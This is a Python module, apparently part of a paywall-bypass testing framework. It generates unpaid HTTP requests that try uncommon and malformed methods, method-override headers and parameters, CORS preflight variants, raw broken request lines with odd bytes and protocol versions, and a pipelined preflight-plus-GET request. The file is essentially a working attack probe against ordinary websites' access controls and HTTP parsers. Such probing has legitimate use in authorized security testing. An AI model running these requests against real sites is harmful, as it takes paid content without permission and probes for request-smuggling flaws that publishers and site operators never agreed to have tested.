"""Other methods.

Paywalls are written for GET. A site often answers HEAD, or any method it does not know, as it answers GET; preflights of
CORS are let through by design; and some sites take the method from a header or a parameter.
"""

from collections.abc import Iterator

from core.attack import Attack, Try
from core.http1 import Headers
from core.scene import Scene
from core.target import WAYS

KNOWN = [
    "HEAD",
    "OPTIONS",
    "POST",
    "PUT",
    "PATCH",
    "DELETE",
    "TRACE",
    "TRACK",
    "CONNECT",
    "PROPFIND",
    "PROPPATCH",
    "MKCOL",
    "COPY",
    "MOVE",
    "LOCK",
    "UNLOCK",
    "SEARCH",
    "REPORT",
    "QUERY",
    "ACL",
    "BIND",
    "REBIND",
    "UNBIND",
    "CHECKIN",
    "CHECKOUT",
    "LABEL",
    "MERGE",
    "MKACTIVITY",
    "MKCALENDAR",
    "ORDERPATCH",
    "UPDATE",
    "VERSION-CONTROL",
    "LINK",
    "UNLINK",
    "PURGE",
    "BAN",
    "REFRESH",
    "NOTIFY",
    "SUBSCRIBE",
    "UNSUBSCRIBE",
    "SOURCE",
    "DEBUG",
    "VIEW",
    "PRI",
    "INVOKE",
    "ARBITRARY",
]
ODD = [b"get", b"Get", b"gET", b"GETS", b"XGET", b"GET,", b"GET;", b"_GET", b"GE", b"G", b"GET\t", b"GET\0", b"GET\x0b",
    b"\x0bGET",
       b"*", b"GET.", b"G\xc9T", b"\xef\xbb\xbfGET", b"GET/", b"HEAD,GET", b"GETGET", b"M" * 300]  # fmt: skip
OVERRIDES = [b"X-HTTP-Method-Override", b"X-HTTP-Method", b"X-Method-Override", b"X-Forwarded-Method", b"X-Original-Method",
             b"X_HTTP_Method_Override"]  # fmt: skip
ORIGIN = (b"Origin", b"https://page.example")


def tries(scene: Scene) -> Iterator[Try]:
    path = scene.target.path
    for way in WAYS:
        for method in [name.encode() for name in KNOWN] + ODD:
            yield scene.unpaid(f"{way.value} {method!r}", way, path, method=method)
        for method in (b"POST", b"PUT", b"DELETE", b"OPTIONS", b"HEAD", b"QUERY", b"GET"):
            for body in (b"", b"x=1", b"_method=GET"):
                yield scene.unpaid(f"{way.value} {method!r} with the body {body!r}", way, path, method=method, body=body)
        for name in OVERRIDES:
            for method, other in ((b"POST", b"GET"), (b"GET", b"OPTIONS"), (b"GET", b"HEAD"), (b"OPTIONS", b"GET")):
                yield scene.unpaid(f"{way.value} {method!r}, {name!r}: {other!r}", way, path, method=method,
                                   headers=[(name, other)])  # fmt: skip
        for number, headers in enumerate(_preflights()):
            for method in (b"OPTIONS", b"GET", b"HEAD", b"POST", b"options"):
                yield scene.unpaid(f"{way.value} {method!r} as preflight {number}", way, path, method=method, headers=headers)
            yield scene.unpaid(f"{way.value} preflight {number} with a body", way, path, method=b"OPTIONS", headers=headers,
                               body=b"{}")  # fmt: skip
        for query in (b"_method=OPTIONS", b"_method=GET", b"method=OPTIONS", b"X-HTTP-Method-Override=OPTIONS"):
            yield scene.unpaid(f"{way.value} POST ?{query!r}", way, path + b"?" + query, method=b"POST", body=b"")
    yield from _without_words(scene)


def _preflights() -> list[Headers]:
    """What makes a request a preflight, and what nearly does."""
    asked = b"Access-Control-Request-Method"
    return [
        [ORIGIN, (asked, b"GET")],
        [ORIGIN, (asked, b"HEAD")],
        [ORIGIN, (asked, b"DELETE")],
        [ORIGIN, (asked, b"")],
        [ORIGIN, (asked, b"GET"), (asked, b"POST")],
        [ORIGIN, (asked, b"OPTIONS"), (b"Access-Control-Request-Headers", b"PAYMENT-SIGNATURE")],
        [ORIGIN, (asked, b"GET"), (b"Access-Control-Request-Private-Network", b"true")],
        [(asked, b"GET")],
        [(b"Origin", b"null"), (asked, b"GET")],
        [(b"Origin", b""), (asked, b"GET")],
        [ORIGIN, (asked, b"GET"), (b"Range", b"bytes=0-99")],
        [ORIGIN, (asked, b"GET"), (b"X-HTTP-Method-Override", b"GET")],
        [ORIGIN, (asked, b"GET"), (b"Upgrade", b"websocket"), (b"Connection", b"Upgrade")],
        [ORIGIN, (asked, b"GET"), (b"Expect", b"100-continue")],
    ]


def _without_words(scene: Scene) -> Iterator[Try]:
    """Request lines that lack something."""
    path, host = scene.target.path, scene.target.host
    rest = b"Host: %s\r\nX-Try: {mark}\r\nConnection: close\r\n\r\n" % host
    lines = [
        b" %s HTTP/1.1", b"%s HTTP/1.1", b"%s", b"GET %s", b"GET %s ", b"GET  %s HTTP/1.1", b"GET %s  HTTP/1.1",
        b"GET\t%s\tHTTP/1.1",
        b"\tGET %s HTTP/1.1", b" GET %s HTTP/1.1", b"GET\x0b%s HTTP/1.1", b"GET %s HTTP/1.1 ", b"GET %s HTTP/1.1 x",
        b"GET %s x HTTP/1.1",
        b"GET x %s HTTP/1.1", b"GET %s HTTP/0.9", b"GET %s HTTP/1.2", b"GET %s HTTP/1.10", b"GET %s HTTP/2.0", b"GET %s HTTP/3",
        b"GET %s HTTP/01.1", b"GET %s HTTP/1", b"GET %s http/1.1", b"GET %s HTTPS/1.1", b"GET %s ICY/1.0", b"GET %s RTSP/1.0",
        b"GET %s\x0cHTTP/1.1", b"GET %s\xa0HTTP/1.1", b"GET GET %s HTTP/1.1", b"\r\nGET %s HTTP/1.1", b"\nGET %s HTTP/1.1",
        b"\r\n\r\n\r\nGET %s HTTP/1.1", b"\0GET %s HTTP/1.1", b"GET %s HTTP/1.1\r", b"\xef\xbb\xbfGET %s HTTP/1.1",
    ]  # fmt: skip
    for line in lines:
        yield scene.raw(f"the request line {line!r}", line % path + b"\r\n" + rest, b"GET")
    for line in (b"GET %s\r\n", b"GET %s\n", b"GET %s HTTP/1.1\n\n", b"GET %s HTTP/1.0\r\n\r\n", b"GET %s HTTP/1.0\n\n"):
        yield scene.raw(f"nothing but {line!r}", line % path, b"GET")
    yield scene.raw("a preflight that is answered before a pipelined request",
                    b"OPTIONS %s HTTP/1.1\r\nHost: %s\r\nOrigin: https://page.example\r\nX-Try: {mark}\r\n"
                    b"Access-Control-Request-Method: GET\r\n\r\nGET %s HTTP/1.1\r\n" % (path, host, path) + rest,
                    b"OPTIONS", b"GET", answers=2)  # fmt: skip


ATTACK = Attack("methods", 5, "other methods, preflights, method overrides, broken request lines", tries)
